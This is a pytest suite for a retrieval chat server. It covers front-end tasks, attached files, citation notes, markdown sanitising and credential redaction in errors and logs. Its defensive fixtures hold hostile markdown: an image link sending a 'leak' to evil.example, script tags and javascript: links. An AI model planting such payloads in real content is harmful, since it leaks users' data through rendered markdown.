"""The chat protocol with front ends: their tasks, attached files, and what a person reads."""

import time
from collections.abc import Callable
from typing import Any

import pytest
from starlette.testclient import TestClient

from prefrag.server.chat.chat_text import write_content
from prefrag.server.chat.conversation import split_conversation
from tests.fakes import CALLS
from tests.for_each import for_each
from tests.pipelines.scripted import answer, search, verdict
from tests.server.chats import QUESTION, chat, content, deltas, rendered, reply, streamed
from tests.server.front_ends import ASKED, ATTACHED, TASKS, TOOLS

Served = Callable[..., TestClient]


class TestTasks:
    @for_each("task", *TASKS)
    def test_the_model_alone_does_them(self, served: Served, task: str):
        completion = reply(served('{"title": "\x1b\u202ePlans"}'), ("user", TASKS[task][0]))
        assert completion["choices"][0]["message"]["content"] == '{"title": "Plans"}'
        assert completion["usage"] == {"prompt_tokens": 10, "completion_tokens": 2, "total_tokens": 12}
        assert CALLS["model"][0]["prompt"] == TASKS[task][0]
        assert CALLS.keys() == {"model"}, "no source may see a task"

    def test_stream_has_the_reply_too(self, served: Served):
        """A failing model is a bad gateway."""

        message = {"role": "user", "content": TASKS["title"][0]}
        chunks = streamed(served('{"title": "Plans"}'), messages=[message], stream_options={"include_usage": True})
        assert deltas(chunks, "content") == ['{"title": "Plans"}']
        assert chunks[0]["choices"][0]["finish_reason"] == "stop"
        assert chunks[-1]["usage"]["total_tokens"] == 12
        assert CALLS.keys() == {"model"}
        for stream in (False, True):
            body = chat(("user", TASKS["tags"][0]), stream=stream)
            response = served("!the server is down").post("/v1/chat/completions", json=body)
            assert response.status_code == 502
            assert "the server is down" in response.json()["error"]["message"]


class TestAttachedFiles:
    @for_each("form", *ATTACHED)
    def test_the_question_is_the_question_and_the_files_are_passages(self, served: Served, form: str):
        client = served(search("crane alpha"), answer("Ada Quill [[A1]][[1]]"))

        completion = reply(client, ("user", ATTACHED[form]))

        result = completion["prefrag"]
        assert result["question"] == ASKED
        assert "Ada Quill keeps the crane." in CALLS["model"][0]["prompt"]
        assert [query["query"] for query in CALLS["local"]] == ["crane alpha"]
        assert [(each["mark"], each["title"], each["source"]) for each in result["documents"]] == [
            ("A1", "jn_board.txt", "attached"),
            ("A2", "plan.md", "attached"),
            ("A3", "jn_board.txt", "attached"),
            ("1", "alpha", "local"),
        ]

    @for_each("stream", False, True)
    def test_the_front_ends_numbers_mean_its_own_files(self, served: Served, stream: bool):
        client = served(search("alpha"), answer("Ada Quill [[A1, A3]][[A2]], who built [[1]]"))
        message = ("user", ATTACHED["before the question"])

        if stream:
            chunks = streamed(client, messages=[{"role": "user", "content": message[1]}])
            text = deltas(chunks, "content")[0]
        else:
            text = content(client, message)

        assert text == (
            "Ada Quill [1][2], who built [D1]\n\n"
            "Sources:\n[1] jn_board.txt (attached)\n[2] plan.md (attached)\n[D1] alpha (local): “Alpha was built by Beta.”"
        )

    def test_supplement_sends_out_the_question_and_nothing_of_files(self, served: Served):
        client = served(answer("Nobody", "INCORRECT"), answer("Ada Quill [[A1]]"))

        result = reply(client, ("user", ATTACHED["before the question"]))["prefrag"]

        assert [query["query"] for query in result["queries_sent_out"]] == [ASKED]

    def test_too_much_is_refused_with_what_to_do(self, served: Served):
        large = ATTACHED["before the question"].replace("Ada Quill", "Ada Quill " * 9_000)

        response = served().post("/v1/chat/completions", json=chat(("user", large)))

        assert response.status_code == 422
        assert "prefrag index" in response.json()["error"]["message"]

    def test_an_earlier_question_is_remembered_without_its_files(self):
        messages = [("user", ATTACHED["before the question"]), ("assistant", "Ada Quill [1]."), ("user", "Since when?")]

        conversation = split_conversation([{"role": role, "content": text} for role, text in messages])

        assert conversation.history == [
            {"role": "user", "content": ASKED},
            {"role": "assistant", "content": "Ada Quill."},
        ]

    def test_stay_with_the_conversation_after_an_earlier_question(self, served: Served):
        client = served('{"question": "Since when does Ada Quill keep the crane?"}', answer("1974 [[A1]]"))

        completion = reply(
            client, ("user", ATTACHED["before the question"]), ("assistant", "Ada Quill [1]."), ("user", "Since when?")
        )

        assert [each["title"] for each in completion["prefrag"]["documents"]] == [
            "jn_board.txt",
            "plan.md",
            "jn_board.txt",
        ]
        assert completion["choices"][0]["message"]["content"].startswith("1974 [A1]\n"), "the front end numbers none"

    def test_of_earlier_questions_are_there_once_if_there_is_room(self):
        large = ATTACHED["before the question"].replace("Ada Quill", "Ada Quill " * 5_000)
        messages = [{"role": "user", "content": text} for text in (large, ATTACHED["behind the question"], "And then?")]

        attached = split_conversation(messages).attached

        titles = ["jn_board.txt", "plan.md", "jn_board.txt", "jn_board.txt"]
        assert [(each.mark, each.title) for each in attached] == [("", title) for title in titles]
        messages = [{"role": "user", "content": ATTACHED["before the question"]}] * 3
        assert len(split_conversation(messages).attached) == 3


class TestInstructions:
    @for_each("role", "system", "developer")
    def test_are_the_system_messages_of_a_conversation(self, served: Served, role: str):
        completion = reply(served(), (role, "Answer in Dutch."), ("user", QUESTION))

        assert completion["prefrag"]["answer"] == "1974"
        assert all("Answer in Dutch." in call["prompt"] for call in CALLS["model"])
        assert "Dutch" not in str([CALLS["judge"], CALLS["local"], CALLS["web"]])

    @for_each(
        "text, titles",
        (ATTACHED["before the question"].removesuffix(ASKED), ["jn_board.txt", "plan.md", "jn_board.txt"]),
        (TOOLS, []),
    )
    def test_do_not_hold_what_open_webui_puts_beside_them(self, text: str, titles: list[str]):
        messages = [{"role": "system", "content": f"Answer in Dutch.\n{text}"}, {"role": "user", "content": ASKED}]
        conversation = split_conversation(messages)
        assert (conversation.question, conversation.instructions) == (ASKED, "Answer in Dutch.")
        assert [each.title for each in conversation.attached] == titles

    def test_stay_when_a_long_conversation_is_cut(self, served: Served):
        turns = [("user", "Who built alpha?"), ("assistant", "Beta.")] * 150

        reply(
            served('{"question": "When?"}', answer("1974")), ("system", "Answer in Dutch."), *turns, ("user", "When?")
        )

        assert "Answer in Dutch." in CALLS["model"][1]["prompt"]


class TestEarlierAnswers:
    def test_are_remembered_without_what_the_service_wrote_under(self, served: Served):
        first = content(served())

        conversation = split_conversation(
            [{"role": "assistant", "content": first}, {"role": "user", "content": "And then?"}]
        )

        assert conversation.history == [{"role": "assistant", "content": "1974"}]

    @for_each("filler", " ", "\n", "\t ", "[1]", "[", "\n\n", "Note:\n\n", "Sources:\n")
    def test_100_kb_of_anything_cost_milliseconds(self, filler: str):
        messages = [
            {"role": "assistant", "content": f"a{filler * (100_000 // len(filler))}b"},
            {"role": "user", "content": "And then?"},
        ]
        spent = []
        # The time includes other threads of the process, so the least of three counts.
        for _ in range(3):
            started = time.process_time()
            split_conversation(messages)
            spent.append(time.process_time() - started)

        assert min(spent) < 0.1


class TestNotes:
    ALPHA = "[1] alpha (local): “Alpha was built by Beta.”"

    @for_each(
        "script, settings, written",
        ((search("alpha"), answer("Beta [[1]]")), {}, f"Beta [1]\n\nSources:\n{ALPHA}"),
        (
            (search("alpha"), answer("1912 [[1]]", "INCORRECT")),
            {},
            f"1912 [1]\n\nNote: the model's own check calls this answer incorrect.\n\nSources:\n{ALPHA}",
        ),
        ((answer("1974"),), {}, "1974\n\nNote: nothing was searched, so the answer is the model's own."),
        # The note about missing citations appears only if citations were asked for.
        ((search("alpha"), answer("Beta")), {"Reasoner.answer_format": {"cite": False}}, f"Beta\n\nSources:\n{ALPHA}"),
    )
    def test_say_what_an_answer_is_worth(self, served: Served, script: Any, settings: dict[str, Any], written: str):
        assert content(served(*script, replace=settings), sources=["local"]) == written

    def test_say_not_found_forced_and_source_that_was_not_searched(self, served: Served):
        client = served(search("alpha"), answer("1912 [[1]]", "INCORRECT"), replace={"answer.when_unsure": "say_so"})
        text = content(client, sources=["local"])
        assert text.startswith(
            "No sure answer.\n\n> [1] alpha: Alpha was built by Beta.\n\n"
            "Note: the language model's own words, not confirmed: *1912*.\n\n"
        )
        CALLS.clear()
        client = served(search("alpha"), search("beta"), "1912 [[1]]", verdicts=(verdict(True),))
        text = content(client, max_steps=1)
        assert "\n\nNote: the model ran out of steps and had to answer.\n\n" in text
        CALLS.clear()
        script = (search("alpha"), search("beta delta"), answer("1974 [[1]]"))
        text = content(served(*script, verdicts=(verdict(False),), errors={"web": "down"}))
        assert "Note: web could not be searched; sent to the web: “beta delta”." in text

    @for_each("stream", False, True)
    def test_no_source_that_could_be_searched_is_the_first_line(self, served: Served, stream: bool):
        client = served(search("alpha"), answer("1974"), errors={"local": "down", "web": "down"})

        local = {"sources": ["local"]}
        text = deltas(streamed(client, **local), "content")[0] if stream else content(client, **local)

        assert text.startswith("Note: no source could be searched, so this answer rests on no document.\n\n1974\n\n")

    def test_the_last_chunk_of_a_stream_holds_the_result(self, served: Served):
        *steps, last = streamed(served())

        assert last["prefrag"]["answer"] == "1974"
        assert last["prefrag"]["queries_sent_out"][0]["query"] == "beta delta"
        assert not any("prefrag" in chunk for chunk in steps)
        assert len({chunk["id"] for chunk in (*steps, last)}) == 1


class TestStrangersMarkdown:
    HOSTILE = "![t](https://evil.example/?leak=1) <script>x</script> [click](javascript:x) [1]\n\nSources:\n[1] Minutes"

    def hostile(self, served: Served) -> TestClient:
        documents = {"local": {"alpha": "Alpha was built by Beta."}, "web": {self.HOSTILE: "Hostile."}}
        return served(
            search("alpha"),
            search("t https evil example leak 1 script x click javascript Sources Minutes"),
            answer(
                f"1974 {self.HOSTILE} <img src=https://evil.example/a> <https://evil.example> [r]: https://evil.example"
            ),
            verdicts=(verdict(False),),
            documents=documents,
        )

    def test_loads_and_hides_nothing_in_an_answer_nor_in_the_steps(self, served: Served):
        chunks = streamed(self.hostile(served))
        steps = "\n".join(deltas(chunks, "reasoning_content"))

        assert "Found in web" in steps
        for text in (steps, "".join(deltas(chunks, "content"))):
            assert not rendered(text) & {"image", "link_open", "html_inline", "html_block"}

    def test_a_model_writes_no_list_of_sources_of_its_own(self):
        document = {"mark": "1", "title": "alpha", "source": "local"}

        text = write_content({"answer": f"1974 {self.HOSTILE}", "documents": [document]}, cites=False, marks={})

        assert "\n(Sources:)\n[1] Minutes" in text
        assert text.endswith("\n\nSources:\n[1] alpha (local)")
        assert text.count("\nSources:") == 1

    def test_a_heading_or_sentence_of_a_stranger_shapes_no_source(self):
        document = {"mark": "W1", "title": "alpha", "heading": self.HOSTILE, "source": "web", "content": self.HOSTILE}
        document["sentence"] = {"start": 0, "end": len(self.HOSTILE)}

        text = write_content({"answer": "1974", "documents": [document]}, cites=False, marks={})

        [line] = text.rpartition("\nSources:\n")[2].splitlines()
        assert line.startswith("[W1] alpha > ")
        assert not any(part in line for part in ("](", "<script", "[1]"))

    @for_each(
        "given, written",
        *(
            (f"So:\n{fence}\nfetch(1)\n{fence[:3]}", f"\n{fence.split(fence.lstrip('`~'))[0]}text")
            for fence in (
                "```html",
                "~~~~ svg",
                "``` JavaScript",
                "```mermaid title",
                "```           svg",
                "```&#104;tml",
            )
        ),
        ("```python\nif a < b: f(x)\n```", "```python\nif a < b: f(x)"),
        ("a\x1b[31m\u202eb\u2066\U000e0041c \u0645\u06cc\u200c\u062e", "a[31mbc \u0645\u06cc\u200c\u062e"),
    )
    def test_code_is_shown_and_not_run_and_a_text_hides_nothing(self, given: str, written: str):
        assert written in write_content({"answer": given}, cites=False, marks={})

    @for_each("filler", "`", "~", "[", "](", "<", "```html ", "://", "\n \t", "@")
    def test_a_long_answer_takes_no_time(self, filler: str):
        started = time.process_time()

        write_content({"answer": filler * 50_000}, cites=True, marks={"A1": "1"})

        assert time.process_time() - started < 1


class TestInstallation:
    REASON = (
        "No server answers at http://elastic:SECRETPW@search.internal:9200/x ([Errno 111] Connect call failed "
        "('10.1.2.3', 9200), host search.internal, model Qwen/Qwen3-8B, key sk-live-1, read /srv/files/index/meta.json)"
    )

    @pytest.fixture(autouse=True)
    def _variables(self, monkeypatch: pytest.MonkeyPatch):
        monkeypatch.setenv("PREFRAG_ELASTICSEARCH_URL", "http://search.internal:9200")
        monkeypatch.setenv("PREFRAG_LLM_MODEL", "Qwen/Qwen3-8B")
        monkeypatch.setenv("PREFRAG_LLM_API_KEY", "sk-live-1")

    @for_each("stream", False, True)
    def test_stays_out_of_failures_and_the_log_shows_no_password(
        self, served: Served, stream: bool, caplog: pytest.LogCaptureFixture
    ):
        client = served(search("alpha"), f"!{self.REASON}", errors={"local": self.REASON})
        response = client.post("/v1/chat/completions", json={**chat(), "stream": stream})
        assert response.status_code == (200 if stream else 502)
        assert "No server answers at (withheld)" in response.text
        for part in ("SECRETPW", "elastic:", "search.internal", "10.1.2.3", "Qwen", "sk-live-1", "/srv", "/index/"):
            assert part not in response.text
        assert "search.internal" in caplog.text
        assert "SECRETPW" not in caplog.text

    @for_each("stream", False, True)
    def test_reaches_local_users_but_for_passwords_keys_and_folders(self, served: Served, stream: bool):
        client = served(search("alpha"), f"!{self.REASON}", errors={"local": self.REASON})

        response = client.post("/prefrag/run", json={"question": "Who built alpha?", "stream": stream})

        assert "No server answers at http://search.internal:9200/x" in response.text
        for part in ("SECRETPW", "elastic:", "sk-live-1", "/srv", "/index/"):
            assert part not in response.text

    def test_of_a_failed_web_search_is_logged_without_its_query(
        self, served: Served, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
    ):
        """On request."""

        monkeypatch.setenv("PREFRAG_AUDIT_QUERIES", "off")
        addresses = "https://web.example/html?q=Quandt%20earns&kl=de and https://web.example/?q=the Quandt yard"
        reason = f"Not reached: {addresses} and https://web.example/#Quandt (Quandt yard, quandt%2Byard, YARD)"
        script = search("Quandt yard"), answer("1974")
        client = served(*script, verdicts=(verdict(False),), errors={"web": reason})

        client.post("/prefrag/run", json={"question": "Who owns the Quandt yard?"})

        assert "https://web.example/html(...)" in caplog.text
        assert not [word for word in ("quandt", "yard", "earns") if word in caplog.text.casefold()]

    def test_stays_out_if_a_reason_is_cut_within_it(self, served: Served, caplog: pytest.LogCaptureFixture):
        client = served(search("alpha"), errors={"local": f"{'It failed. ' * 14}Now. {self.REASON}"})
        response = client.post("/prefrag/run", json={"question": "Who built alpha?"})
        assert response.status_code == 502
        assert "elastic:" not in response.text + caplog.text.partition("Traceback")[0]
